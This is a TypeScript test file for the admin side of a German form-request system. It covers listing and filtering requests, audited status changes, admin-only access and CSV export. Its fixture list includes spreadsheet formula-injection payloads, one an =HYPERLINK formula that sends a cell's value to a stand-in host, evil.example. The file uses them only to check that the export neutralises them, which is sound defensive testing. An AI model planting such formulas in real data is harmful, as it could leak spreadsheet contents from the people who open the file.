/**
 * The staff's view of the requests: the list with the counts per status and its filters, a status change
 * (audited), and the CSV export, whose cells never run as formulas in a spreadsheet.
 */
import { API_ROUTES, buildPath, CSRF_HEADER, FORM_REQUEST_STATUS_LABELS } from '@amb/shared-contracts';
import type { Express } from 'express';
import { parse } from 'csv-parse/sync';
import { anonymousAgent, loginAs, type Agent } from '../test/agent';
import type { TestDb } from '../test/createTestDb';
import { createTestApp } from '../test/createTestApp';
import { VALID_REQUESTS } from '../test/requestForms';

let testDb: TestDb;
let app: Express;
let admin: { agent: Agent; csrf: string };

/** What an attacker types into a form so that an opened export runs it. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Klick")', '+49 30 123456', '-2+3', '@SUM(1+1)'];

async function send(path: string, body: object) {
  const { agent, csrf } = await anonymousAgent(app);
  const res = await agent.post(path).set(CSRF_HEADER, csrf).send(body);
  if (res.status !== 201) throw new Error(`${path}: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body.requestId as number;
}

let sbvIds: number[] = [];
let catalogueId = 0;

beforeAll(async () => {
  ({ testDb, app } = await createTestApp({ limits: { formRequest: 1000 } }));
  admin = await loginAs(app, 'admin@example.de');
  sbvIds = [];
  for (const message of FORMULAS) {
    sbvIds.push(await send(API_ROUTES.sbvRequest.path, { ...VALID_REQUESTS.sbv, message: `${message}` }));
  }
  sbvIds.push(
    await send(API_ROUTES.sbvRequest.path, {
      ...VALID_REQUESTS.sbv,
      lastname: 'Koch-Müller',
      message: 'Zeile eins; mit "Anführungszeichen"\nZeile zwei, mit Komma',
    }),
  );
  catalogueId = await send(API_ROUTES.catalogueRequest.path, VALID_REQUESTS.catalogue);
});
afterAll(() => testDb.destroy());

describe('GET /api/admin/requests', () => {
  it('lists the requests newest first with labelled fields and the counts per status', async () => {
    const res = await admin.agent.get(API_ROUTES.adminRequests.path);
    expect(res.status).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.requests[0]).toMatchObject({
      requestId: catalogueId,
      kind: 'catalogue',
      status: 'new',
      name: 'Sabine Koch',
      email: VALID_REQUESTS.catalogue.email,
      statusChangedBy: null,
    });
    expect(res.body.requests[0].fields).toEqual(
      expect.arrayContaining([
        { label: 'PLZ', value: '44135' },
        { label: 'Exemplare', value: '2' },
      ]),
    );
    expect(res.body.counts.new).toBeGreaterThanOrEqual(6);
    expect(res.body.total).toBe(res.body.counts.new + res.body.counts.in_progress + res.body.counts.done);
  });

  it('filters by kind and status; a bad filter is a German 400', async () => {
    const sbv = await admin.agent.get(`${API_ROUTES.adminRequests.path}?kind=sbv`);
    expect(sbv.body.requests.map((r: { requestId: number }) => r.requestId)).toEqual([...sbvIds].reverse());
    expect(sbv.body.total).toBe(sbvIds.length);
    const bad = await admin.agent.get(`${API_ROUTES.adminRequests.path}?kind=spam&page=0`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields).toEqual({
      kind: 'Bitte wählen Sie eine Art von Anfrage aus',
      page: 'Bitte geben Sie eine Seite ab 1 an',
    });
  });
});

describe('PUT /api/admin/requests/:id/status', () => {
  it('moves a request to "in Bearbeitung" and "erledigt", names who did it, and audits each change', async () => {
    const id = sbvIds[0]!;
    const path = buildPath(API_ROUTES.adminRequestStatus.path, { id });
    const first = await admin.agent.put(path).set(CSRF_HEADER, admin.csrf).send({ status: 'in_progress' });
    expect(first.status).toBe(200);
    await admin.agent.put(path).set(CSRF_HEADER, admin.csrf).send({ status: 'done' });
    const list = await admin.agent.get(`${API_ROUTES.adminRequests.path}?kind=sbv&status=done`);
    expect(list.body.requests).toHaveLength(1);
    expect(list.body.requests[0]).toMatchObject({ requestId: id, status: 'done', statusChangedBy: 'Petra Hoffmann' });
    expect(list.body.counts).toMatchObject({ done: 1, new: sbvIds.length - 1 });
    const audit = await testDb.db
      .selectFrom('auditLog')
      .select('details')
      .where('action', '=', 'formRequest.status')
      .orderBy('auditId')
      .execute();
    expect(audit.map((a) => JSON.parse(a.details))).toEqual([
      { requestId: id, kind: 'sbv', from: 'new', to: 'in_progress' },
      { requestId: id, kind: 'sbv', from: 'in_progress', to: 'done' },
    ]);
  });

  it('refuses an unknown status (400) and an unknown request (404), changing nothing', async () => {
    const path = buildPath(API_ROUTES.adminRequestStatus.path, { id: catalogueId });
    const bad = await admin.agent.put(path).set(CSRF_HEADER, admin.csrf).send({ status: 'archived' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.status).toBe('Bitte wählen Sie einen Status aus');
    const unknown = await admin.agent
      .put(buildPath(API_ROUTES.adminRequestStatus.path, { id: 99_999 }))
      .set(CSRF_HEADER, admin.csrf)
      .send({ status: 'done' });
    expect(unknown.status).toBe(404);
    const row = await testDb.db
      .selectFrom('formRequests')
      .select('status')
      .where('requestId', '=', catalogueId)
      .executeTakeFirstOrThrow();
    expect(row.status).toBe('new');
  });

  it('is for admins only', async () => {
    const member = await loginAs(app, 'anna.schneider@example.de');
    const path = buildPath(API_ROUTES.adminRequestStatus.path, { id: catalogueId });
    expect((await member.agent.put(path).set(CSRF_HEADER, member.csrf).send({ status: 'done' })).status).toBe(403);
    expect((await member.agent.get(API_ROUTES.adminRequestsCsv.path)).status).toBe(403);
  });
});

describe('GET /api/admin/requests/export.csv', () => {
  it('writes one column per field of the kind, German headers, a BOM and semicolons', async () => {
    const res = await admin.agent.get(`${API_ROUTES.adminRequestsCsv.path}?kind=sbv`).buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="?sbv-request-\d{4}-\d{2}-\d{2}\.csv"?$/);
    expect(res.text.charCodeAt(0)).toBe(0xfeff);
    const rows: string[][] = parse(res.text, { delimiter: ';', bom: true });
    expect(rows[0]).toEqual([
      'Nr.',
      'Art',
      'Status',
      'Eingegangen',
      'Name',
      'E-Mail-Adresse',
      'Betreff',
      'Funktion',
      'Anrede',
      'Vorname',
      'Nachname',
      'E-Mail-Adresse',
      'Telefon',
      'Firma',
      'Nachricht',
    ]);
    expect(rows).toHaveLength(sbvIds.length + 1);
    const quoted = rows.find((row) => row[10] === 'Koch-Müller')!;
    expect(quoted[14]).toBe('Zeile eins; mit "Anführungszeichen"\nZeile zwei, mit Komma');
    expect(rows.find((row) => row[0] === String(sbvIds[0]))?.[2]).toBe(FORM_REQUEST_STATUS_LABELS.done);
  });

  it('neutralises formula injection: every cell starting with = + - @ gets an apostrophe', async () => {
    const res = await admin.agent.get(`${API_ROUTES.adminRequestsCsv.path}?kind=sbv`).buffer(true);
    const rows: string[][] = parse(res.text, { delimiter: ';', bom: true });
    const messages = rows.slice(1).map((row) => row[14]);
    for (const formula of FORMULAS) expect(messages).toContain(`'${formula}`);
    for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports all kinds together with the fields in one column', async () => {
    const res = await admin.agent.get(API_ROUTES.adminRequestsCsv.path).buffer(true);
    const rows: string[][] = parse(res.text, { delimiter: ';', bom: true });
    expect(rows[0]).toEqual(['Nr.', 'Art', 'Status', 'Eingegangen', 'Name', 'E-Mail-Adresse', 'Angaben']);
    const catalogue = rows.find((row) => row[0] === String(catalogueId))!;
    expect(catalogue[1]).toBe('Katalogbestellung');
    expect(catalogue[6]).toContain('Exemplare: 2');
  });
});
